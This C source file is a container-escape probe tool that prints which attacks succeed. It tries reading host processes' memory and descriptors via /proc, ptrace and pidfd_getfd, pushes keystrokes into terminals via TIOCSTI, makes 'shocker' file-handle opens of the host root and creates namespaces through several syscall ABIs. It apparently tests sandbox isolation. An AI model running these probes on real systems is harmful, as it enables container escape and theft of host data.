/* Attacks from inside a container, each by its name; what succeeds is printed in capital letters.
 *
 *   attack catch SECONDS   looks into every process that appears and is none of the container's own: descriptors, memory, files
 *   attack keys            pushes keys into the terminals that are standard input, output and error
 *   attack handles         opens files of the host by handles (the "shocker")
 *   attack gates           makes user namespaces by every system call and calling convention there is
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is_program_of_host(int pid) {
  char path[64], name[64] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  int n = read(fd, name, sizeof name - 1);
  close(fd);
  if (n > 0 && name[n - 1] == '\n') name[n - 1] = 0;
  /* the door is run by a descriptor's name: its own is a number */
  return name[0] >= '0' && name[0] <= '9' && name[strspn(name, "0123456789")] == 0;
}

static void look(int pid) {
  char path[300], target[512];
  if (!is_program_of_host(pid)) return;
  static const char *files[] = {"mem", "environ", "maps", "syscall", "auxv"};
  for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
    int fd = open(path, i == 0 ? O_RDWR : O_RDONLY);
    /* what is open stays so when the process becomes the container's command: only what can be read of it now counts */
    if (fd >= 0 && is_program_of_host(pid) && read(fd, target, 1) == 1 && is_program_of_host(pid)) printf("CAUGHT %s of %d\n", files[i], pid);
    if (fd >= 0) close(fd);
  }
  static const char *places[] = {"cwd", "root", "exe"};
  for (unsigned i = 0; i < 3; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, places[i]);
    if (readlink(path, target, sizeof target) >= 0 && is_program_of_host(pid)) printf("CAUGHT %s of %d\n", places[i], pid);
  }
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *dir = opendir(path);
  if (dir) {
    struct dirent *e;
    while ((e = readdir(dir)))
      /* their numbers anybody may read who is root outside, too; where they lead, or what is behind them, is something else */
      if (e->d_name[0] != '.' && (readlinkat(dirfd(dir), e->d_name, target, sizeof target) >= 0 || openat(dirfd(dir), e->d_name, O_PATH) >= 0) &&
          is_program_of_host(pid))
        printf("CAUGHT descriptor %s of %d\n", e->d_name, pid);
    closedir(dir);
  }
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    if (is_program_of_host(pid)) printf("CAUGHT %d by ptrace\n", pid);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  for (int n = 0; pidfd >= 0 && n < 16; n++) {
    int stolen = syscall(SYS_pidfd_getfd, pidfd, n, 0);
    if (stolen >= 0 && is_program_of_host(pid)) printf("CAUGHT descriptor %d of %d by pidfd\n", n, pid);
    if (stolen >= 0) close(stolen);
  }
  if (pidfd >= 0) close(pidfd);
}

static int catch_visitors(int seconds) {
  time_t end = time(NULL) + seconds;
  int met = 0, last = 0;
  while (time(NULL) < end && access("/tmp/enough", F_OK) != 0) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == getpid() || !is_program_of_host(pid)) continue;
      if (pid != last) met++;
      last = pid;
      look(pid);
    }
    if (proc) closedir(proc);
  }
  printf("met %s\n", met ? "some" : "nobody");
  return 0;
}

static int keys(void) {
  for (int fd = 0; fd < 3; fd++) {
    if (!isatty(fd)) continue;
    printf("a terminal\n");
    if (ioctl(fd, TIOCSTI, "x") == 0) printf("PUSHED into %d\n", fd);
    char paste[2] = {3, 0};
    if (ioctl(fd, TIOCLINUX, paste) == 0) printf("PASTED into %d\n", fd);
    pid_t child = fork();
    if (child == 0) {
      setsid();
      if (ioctl(fd, TIOCSCTTY, 1) == 0) printf("STOLEN %d\n", fd);
      if (ioctl(fd, TIOCSTI, "x") == 0) printf("PUSHED into %d, from another session\n", fd);
      fflush(stdout);
      _exit(0);
    }
    waitpid(child, NULL, 0);
  }
  return 0;
}

static int handles(void) {
  struct { struct file_handle h; unsigned char space[128]; } mine, root;
  int mount;
  static const char *ways[] = {"/", "/etc/passwd", "/proc", "/dev", "/etc/resolv.conf"};
  for (unsigned i = 0; i < sizeof ways / sizeof *ways; i++) {
    mine.h.handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, ways[i], &mine.h, &mount, 0) != 0) continue;
    int dir = open(ways[i], O_RDONLY);
    if (open_by_handle_at(dir, &mine.h, O_RDONLY) >= 0) printf("OPENED %s\n", ways[i]);
    /* inode 2 is the root of ext4 */
    root = mine;
    memset(root.space, 0, sizeof root.space);
    root.space[0] = 2;
    if (open_by_handle_at(dir, &root.h, O_RDONLY) >= 0) printf("OPENED the root beside %s\n", ways[i]);
    close(dir);
  }
  return 0;
}

static void child_lives(const char *how, long got) {
  if (got == 0) _exit(0);
  if (got > 0) {
    printf("MADE a user namespace by %s\n", how);
    waitpid(got, NULL, __WALL);
  }
}

static int gates(void) {
  if (syscall(SYS_unshare, CLONE_NEWUSER) == 0) printf("MADE a user namespace by unshare\n");
  if (syscall(SYS_unshare, CLONE_NEWNS) == 0) printf("MADE a mount namespace by unshare\n");
  fflush(stdout);
  child_lives("clone", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
  struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
  child_lives("clone3", syscall(SYS_clone3, &args, sizeof args));
#ifdef __x86_64__
  /* the same by the numbers of other ABIs: x32, and those of 32 bits */
  child_lives("x32 clone", syscall(0x40000000 + SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
  if (syscall(0x40000000 + SYS_unshare, CLONE_NEWUSER) == 0) printf("MADE a user namespace by x32 unshare\n");
  fflush(stdout);
  pid_t child = fork();
  if (child == 0) {
    long got;
    __asm__ volatile("int $0x80" : "=a"(got) : "a"(310), "b"(CLONE_NEWUSER) : "memory", "r8", "r9", "r10", "r11");
    if (got == 0) printf("MADE a user namespace by 32 bits' unshare\n");
    __asm__ volatile("int $0x80" : "=a"(got) : "a"(288), "b"(0), "c"(-3), "d"(1) : "memory", "r8", "r9", "r10", "r11");
    if (got > 0) printf("HAS a keyring by 32 bits' keyctl\n");
    fflush(stdout);
    _exit(0);
  }
  waitpid(child, NULL, 0);
#endif
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *what = argc > 1 ? argv[1] : "";
  if (!strcmp(what, "catch")) return catch_visitors(argc > 2 ? atoi(argv[2]) : 5);
  if (!strcmp(what, "keys")) return keys();
  if (!strcmp(what, "handles")) return handles();
  if (!strcmp(what, "gates")) return gates();
  fprintf(stderr, "attack: catch, keys, handles or gates\n");
  return 2;
}
